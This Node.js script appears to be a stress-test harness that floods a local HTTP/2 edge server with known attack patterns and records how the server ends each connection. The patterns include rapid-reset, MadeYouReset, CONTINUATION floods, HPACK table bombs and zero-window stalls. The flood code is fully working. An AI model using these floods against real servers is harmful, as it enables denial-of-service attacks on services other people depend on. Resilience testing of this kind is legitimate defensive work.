// SPDX-License-Identifier: Apache-2.0
// One process that floods an edge over HTTP/2: attacker.mjs PORT HOST KIND CONNECTIONS FRAMES. Prints one JSON object: how many
// connections, how they ended (GOAWAY's code, closed, or held: still open when all was sent), and how many bytes they got rid of.
import tls from 'node:tls'
import { F, PREFACE, T, block, frame, literal, u32 } from '../../lib/h2.mjs'

const [port, host, kind, connections, frames] = [Number(process.argv[2]), process.argv[3], process.argv[4], Number(process.argv[5]), Number(process.argv[6])]
const RST = Buffer.from([0, 0, 0, 8])
const setting = (id, value) => Buffer.concat([Buffer.from([0, id]), u32(value)])
const get = block(host)
const post = block(host, 'POST')
const open = id => frame(T.HEADERS, F.END_HEADERS, id, post)
const ask = (id, more = Buffer.alloc(0)) => frame(T.HEADERS, F.END_HEADERS | F.END_STREAM, id, Buffer.concat([get, more]))
/** A field that goes into the table of HPACK, of n bytes, and the one byte that repeats it. */
const remember = n => Buffer.concat([Buffer.from([0x40, 1]), Buffer.from('a'), Buffer.from([0x7f, 0x80 | ((n - 127) & 0x7f), (n - 127) >> 7]), Buffer.alloc(n, 'b')])
const long = [...'abcdefghij'].map(c => literal('x-' + c, 'v'.repeat(100)))

/** What each connection sends: once, and then again for each i. */
const kinds = {
  'rapid-reset': { each: i => [ask(2 * i + 1), frame(T.RST, 0, 2 * i + 1, RST)] },
  'made-you-reset': { each: i => [frame(T.HEADERS, F.END_HEADERS, 2 * i + 1, Buffer.concat([post, literal('content-length', '1')])), frame(T.DATA, F.END_STREAM, 2 * i + 1, Buffer.from('xx'))] },
  continuation: { once: [frame(T.HEADERS, F.END_STREAM, 1, get)], each: i => [frame(T.CONTINUATION, 0, 1, long[i % 10])] },
  'continuation-empty': { once: [frame(T.HEADERS, F.END_STREAM, 1, get)], each: () => [frame(T.CONTINUATION, 0, 1)] },
  'data-empty': { once: [open(1)], each: () => [frame(T.DATA, 0, 1)] },
  settings: { each: () => [frame(T.SETTINGS, 0, 0, setting(4, 65535))] },
  ping: { each: () => [frame(T.PING, 0, 0, Buffer.from('floodinG'))] },
  priority: { each: i => [frame(T.PRIORITY, 0, 2 * i + 1, Buffer.from([0, 0, 0, 0, 15]))] },
  window: { each: () => [frame(T.WINDOW, 0, 0, u32(1))] },
  'hpack-bomb': { once: [ask(1, remember(3000))], each: i => i < frames / 20 ? [ask(2 * i + 3, Buffer.alloc(12000, 0xbe))] : [] },
  'hpack-bomb-trailers': { once: [ask(1, remember(3000))], each: i => i < frames / 20 ? [open(2 * i + 3), frame(T.HEADERS, F.END_HEADERS | F.END_STREAM, 2 * i + 3, Buffer.alloc(12000, 0xbe))] : [] },
  'no-window': { once: [frame(T.SETTINGS, 0, 0, setting(4, 0))], each: i => i < 120 ? [frame(T.HEADERS, F.END_HEADERS | F.END_STREAM, 2 * i + 1, Buffer.concat([Buffer.from([0x82, 0x87, 0x04, 8]), Buffer.from('/big.bin'), get.subarray(3)]))] : [] }
}

function attack (what) {
  return new Promise(resolve => {
    const r = { end: 'closed', sent: 0 }
    const s = tls.connect({ host: '127.0.0.1', port, servername: host, ALPNProtocols: ['h2'], rejectUnauthorized: false })
    let seen = Buffer.alloc(0)
    let done = false
    const over = () => { if (!done) { done = true; s.destroy(); resolve(r) } }
    s.on('error', over)
    s.on('close', over)
    s.on('data', d => {
      seen = Buffer.concat([seen, d])
      while (seen.length >= 9 && seen.length >= 9 + seen.readUIntBE(0, 3)) {
        const n = 9 + seen.readUIntBE(0, 3)
        if (seen[3] === T.GOAWAY) r.end = `goaway ${seen.readUInt32BE(13)}`
        seen = seen.subarray(n)
      }
    })
    s.on('secureConnect', () => {
      s.write(Buffer.concat([PREFACE, frame(T.SETTINGS, 0, 0), ...what.once || []]))
      let i = 0
      const more = () => {
        while (!done && i < frames) {
          const batch = []
          for (let k = 0; k < 200 && i < frames; k++) batch.push(...what.each(i++))
          const b = Buffer.concat(batch)
          if (!b.length) continue
          r.sent += b.length
          if (!s.write(b)) { s.once('drain', more); return }
        }
        setTimeout(() => { if (r.end === 'closed' && !done) r.end = 'held'; over() }, 1500)
      }
      more()
    })
  })
}

const ends = {}
let sent = 0; let begun = 0
async function one () {
  while (begun++ < connections) {
    const r = await attack(kinds[kind])
    ends[r.end] = (ends[r.end] || 0) + 1
    sent += r.sent
  }
}
await Promise.all(Array.from({ length: 8 }, one))
console.log(JSON.stringify({ ends, sent }))
